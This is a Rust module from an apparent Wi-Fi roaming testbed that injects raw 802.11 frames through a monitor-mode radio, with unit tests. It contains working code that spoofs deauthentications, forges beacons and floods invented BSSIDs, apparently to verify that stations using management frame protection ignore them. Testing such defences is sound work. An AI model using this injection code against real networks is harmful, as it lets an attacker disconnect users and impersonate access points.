//! A third party in radio range: a radio of its own in monitor mode, injecting frames (radiotap
//! and 802.11) that claim to come from an AP. Anyone can send such frames; with management
//! frame protection the station must ignore them, and roam with it.

use std::{
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    thread,
    time::Duration,
};

use anyhow::{bail, Context as _, Result};

use roam_testbed::scenario::Security;

use super::{hwsim::Radio, paths, process};

/// The smallest radiotap header: version 0, length 8, no fields (the driver picks the rate).
const RADIOTAP: [u8; 8] = [0, 0, 8, 0, 0, 0, 0, 0];

pub struct Attacker {
    iface: String,
    socket: OwnedFd,
    sequence: u16,
}

impl Attacker {
    /// Turns `radio`'s interface into an injecting monitor (it stays in the initial namespace,
    /// which shares the air with every radio).
    pub fn new(radio: &Radio) -> Result<Attacker> {
        let iface = radio.iface.clone();
        process::ip(&["link", "set", &iface, "down"])?;
        process::run(paths::IW, &["dev", &iface, "set", "type", "monitor"])?;
        process::ip(&["link", "set", &iface, "up"])?;
        let ifindex: i32 =
            std::fs::read_to_string(format!("/sys/class/net/{iface}/ifindex"))?.trim().parse()?;
        // SAFETY: plain socket(2); the descriptor is owned at once.
        let fd = unsafe {
            libc::socket(libc::AF_PACKET, libc::SOCK_RAW, (libc::ETH_P_ALL as u16).to_be() as i32)
        };
        if fd < 0 {
            return Err(std::io::Error::last_os_error()).context("opening a packet socket");
        }
        // SAFETY: fd is a fresh descriptor of ours.
        let socket = unsafe { OwnedFd::from_raw_fd(fd) };
        // SAFETY: sockaddr_ll is plain data; zeroed is a valid start.
        let mut address: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
        address.sll_family = libc::AF_PACKET as u16;
        address.sll_protocol = (libc::ETH_P_ALL as u16).to_be();
        address.sll_ifindex = ifindex;
        // SAFETY: bind with a valid sockaddr_ll of the given size.
        let bound = unsafe {
            libc::bind(
                socket.as_raw_fd(),
                (&address as *const libc::sockaddr_ll).cast(),
                std::mem::size_of::<libc::sockaddr_ll>() as u32,
            )
        };
        if bound < 0 {
            return Err(std::io::Error::last_os_error()).context("binding the packet socket");
        }
        Ok(Attacker { iface, socket, sequence: 0 })
    }

    /// A second handle on the same radio, for a step that goes on in the background.
    pub fn try_clone(&self) -> Result<Attacker> {
        Ok(Attacker {
            iface: self.iface.clone(),
            socket: self.socket.try_clone().context("duplicating the injection socket")?,
            // Another half of the sequence space, so the two streams do not collide.
            sequence: (self.sequence + 0x800) & 0x0fff,
        })
    }

    /// Sends `count` deauthentications to `station`, in the name of each of `senders`
    /// (channel, BSSID) in turn.
    pub fn spoof_deauth(
        &mut self,
        senders: &[(u8, String)],
        station: &str,
        reason: u16,
        count: u32,
        interval: Duration,
    ) -> Result<()> {
        let station = parse_mac(station)?;
        let senders: Vec<(u8, [u8; 6])> = senders
            .iter()
            .map(|(channel, bssid)| Ok((*channel, parse_mac(bssid)?)))
            .collect::<Result<_>>()?;
        let mut tuned = None;
        for (_, &(channel, bssid)) in (0..count).zip(senders.iter().cycle()) {
            self.send_deauth(channel, &mut tuned, station, bssid, reason)?;
            if !interval.is_zero() {
                thread::sleep(interval);
            }
        }
        Ok(())
    }

    /// Beacons in `beacon`'s name on `channel`, `per_second` of them for `duration`: a forged
    /// AP (another's BSSID with another interval, or a BSS nobody serves).
    pub fn forge_beacons(
        &mut self,
        channel: u8,
        beacon: &ForgedBeacon,
        per_second: u32,
        duration: Duration,
    ) -> Result<u64> {
        let mut tuned = None;
        self.tune(channel, &mut tuned)?;
        let bssid = parse_mac(&beacon.bssid)?;
        self.paced(per_second, duration, |attacker| {
            let frame = beacon_frame(bssid, beacon, channel, attacker.sequence);
            attacker.sequence = (attacker.sequence + 1) & 0x0fff;
            attacker.inject(&frame)
        })
    }

    /// Beacons of `per_second` BSSIDs never heard before each second for `duration`, all of
    /// `ssid` (a flood of invented BSSes): returns how many went out.
    pub fn beacon_flood(
        &mut self,
        channel: u8,
        ssid: &str,
        security: Security,
        per_second: u32,
        duration: Duration,
    ) -> Result<u64> {
        let mut tuned = None;
        self.tune(channel, &mut tuned)?;
        let mut random = XorShift(0x9e37_79b9_7f4a_7c15);
        self.paced(per_second, duration, |attacker| {
            let beacon = ForgedBeacon {
                bssid: String::new(),
                ssid: ssid.to_owned(),
                interval_tu: 100,
                security,
            };
            let frame = beacon_frame(random.bssid(), &beacon, channel, attacker.sequence);
            attacker.sequence = (attacker.sequence + 1) & 0x0fff;
            attacker.inject(&frame)
        })
    }

    /// Runs `send` `per_second` times a second, evenly, for `duration`; returns the count.
    fn paced(
        &mut self,
        per_second: u32,
        duration: Duration,
        mut send: impl FnMut(&mut Attacker) -> Result<()>,
    ) -> Result<u64> {
        let start = std::time::Instant::now();
        let per_second = u64::from(per_second.max(1));
        let mut sent = 0u64;
        while start.elapsed() < duration {
            send(self)?;
            sent += 1;
            // The schedule, not a fixed sleep: a slow send is caught up on.
            let due = Duration::from_nanos(sent * 1_000_000_000 / per_second);
            if let Some(wait) = due.checked_sub(start.elapsed()) {
                thread::sleep(wait);
            }
        }
        Ok(sent)
    }

    fn tune(&mut self, channel: u8, tuned: &mut Option<u8>) -> Result<()> {
        if *tuned != Some(channel) {
            let channel_text = channel.to_string();
            process::run(paths::IW, &["dev", &self.iface, "set", "channel", &channel_text])?;
            *tuned = Some(channel);
        }
        Ok(())
    }

    /// One frame, on `channel`; a full queue (the air is saturated) is waited out, so every
    /// frame counted goes out.
    fn send_deauth(
        &mut self,
        channel: u8,
        tuned: &mut Option<u8>,
        station: [u8; 6],
        bssid: [u8; 6],
        reason: u16,
    ) -> Result<()> {
        self.tune(channel, tuned)?;
        let frame = deauth_frame(station, bssid, reason, self.sequence);
        self.sequence = (self.sequence + 1) & 0x0fff;
        self.inject(&frame)
    }

    /// Injects one frame; a full queue (the air is saturated) is waited out.
    fn inject(&mut self, frame: &[u8]) -> Result<()> {
        loop {
            // SAFETY: write(2) of an initialised buffer on our socket.
            let sent =
                unsafe { libc::write(self.socket.as_raw_fd(), frame.as_ptr().cast(), frame.len()) };
            if sent >= 0 {
                return Ok(());
            }
            let err = std::io::Error::last_os_error();
            if err.raw_os_error() != Some(libc::ENOBUFS) {
                return Err(err).context("injecting a frame");
            }
            thread::sleep(Duration::from_millis(1));
        }
    }
}

/// What a forged beacon claims.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ForgedBeacon {
    pub bssid: String,
    pub ssid: String,
    pub interval_tu: u16,
    pub security: Security,
}

/// Radiotap + a beacon from `bssid` as `beacon` describes it (SSID, rates, channel, and the RSN
/// element of WPA2-PSK, with management frame protection required for `Wpa2PskPmf`). Pure.
pub fn beacon_frame(bssid: [u8; 6], beacon: &ForgedBeacon, channel: u8, sequence: u16) -> Vec<u8> {
    const ESS: u16 = 0x0001;
    const PRIVACY: u16 = 0x0010;
    let protected = beacon.security != Security::Open;
    let mut frame = RADIOTAP.to_vec();
    frame.extend([0x80, 0x00, 0x00, 0x00]); // frame control (beacon), duration
    frame.extend([0xff; 6]); // addr1: broadcast
    frame.extend(bssid); // addr2: transmitter
    frame.extend(bssid); // addr3: BSSID
    frame.extend((sequence << 4).to_le_bytes());
    frame.extend([0u8; 8]); // timestamp
    frame.extend(beacon.interval_tu.to_le_bytes());
    frame.extend((ESS | if protected { PRIVACY } else { 0 }).to_le_bytes());
    frame.push(0); // SSID
    frame.push(beacon.ssid.len() as u8);
    frame.extend(beacon.ssid.as_bytes());
    frame.extend([1, 8, 0x82, 0x84, 0x8b, 0x96, 0x0c, 0x12, 0x18, 0x24]); // supported rates
    frame.extend([3, 1, channel]); // DS parameter set
    frame.extend(roam_testbed::security::rsn_element(beacon.security));
    frame
}

/// Locally administered unicast BSSIDs that no AP of the testbed has (`02:..` are theirs).
struct XorShift(u64);

impl XorShift {
    fn bssid(&mut self) -> [u8; 6] {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        let b = self.0.to_le_bytes();
        [0x06, b[0], b[1], b[2], b[3], b[4]]
    }
}

/// Radiotap + an unprotected deauthentication from `bssid` to `station`. Pure.
pub fn deauth_frame(station: [u8; 6], bssid: [u8; 6], reason: u16, sequence: u16) -> Vec<u8> {
    let mut frame = RADIOTAP.to_vec();
    frame.extend([0xc0, 0x00, 0x00, 0x00]); // frame control (deauth), duration
    frame.extend(station); // addr1: receiver
    frame.extend(bssid); // addr2: transmitter, the AP it pretends to be
    frame.extend(bssid); // addr3: BSSID
    frame.extend((sequence << 4).to_le_bytes());
    frame.extend(reason.to_le_bytes());
    frame
}

fn parse_mac(text: &str) -> Result<[u8; 6]> {
    let bytes: Vec<u8> =
        text.split(':').map(|part| u8::from_str_radix(part, 16)).collect::<Result<_, _>>()?;
    match <[u8; 6]>::try_from(bytes) {
        Ok(mac) => Ok(mac),
        Err(_) => bail!("{text} is not a MAC address"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_spoofed_deauth_claims_the_ap_as_sender() {
        let sta = [2, 0, 0, 0, 2, 0];
        let ap = [2, 0, 0, 0, 0, 0];
        let frame = deauth_frame(sta, ap, 7, 5);
        assert_eq!(&frame[..8], &RADIOTAP);
        assert_eq!(frame[8], 0xc0, "deauthentication, no protected bit");
        assert_eq!(&frame[12..18], &sta);
        assert_eq!(&frame[18..24], &ap);
        assert_eq!(&frame[24..30], &ap);
        assert_eq!(&frame[30..32], &[0x50, 0x00], "sequence 5");
        assert_eq!(&frame[32..34], &[7, 0]);
        assert_eq!(parse_mac("02:00:00:00:02:00").unwrap(), sta);
        assert!(parse_mac("02:00").is_err());
    }

    #[test]
    fn a_forged_beacon_says_what_it_claims() {
        let ap = [2, 0, 0, 0, 0, 0];
        let beacon = ForgedBeacon {
            bssid: "02:00:00:00:00:00".into(),
            ssid: "roam-testbed".into(),
            interval_tu: 1,
            security: Security::Wpa2PskPmf,
        };
        let frame = beacon_frame(ap, &beacon, 6, 1);
        let body = &frame[8..];
        assert_eq!(body[0], 0x80, "beacon");
        assert_eq!(&body[4..10], &[0xff; 6]);
        assert_eq!(&body[10..16], &ap);
        assert_eq!(&body[32..34], &[1, 0], "1 TU");
        assert_eq!(&body[34..36], &[0x11, 0x00], "ESS, privacy");
        assert_eq!(&body[36..38], &[0, 12]);
        assert_eq!(&body[38..50], b"roam-testbed");
        let rsn = &body[body.len() - 22..];
        assert_eq!(&rsn[..4], &[48, 20, 1, 0]);
        assert_eq!(rsn[19], 6, "PSK-SHA256");
        assert_eq!(&rsn[20..22], &[0xc0, 0x00], "PMF required");
        let open = ForgedBeacon { security: Security::Open, ..beacon };
        let frame = beacon_frame(ap, &open, 6, 1);
        assert_eq!(&frame[8 + 34..8 + 36], &[0x01, 0x00], "ESS only");
        assert_eq!(&frame[frame.len() - 3..], &[3, 1, 6], "ends with the channel, no RSN");
    }

    #[test]
    fn flooded_bssids_are_new_and_never_a_testbed_aps() {
        let mut random = XorShift(1);
        let bssids: std::collections::HashSet<[u8; 6]> =
            (0..1000).map(|_| random.bssid()).collect();
        assert_eq!(bssids.len(), 1000);
        assert!(bssids.iter().all(|b| b[0] == 0x06));
    }
}
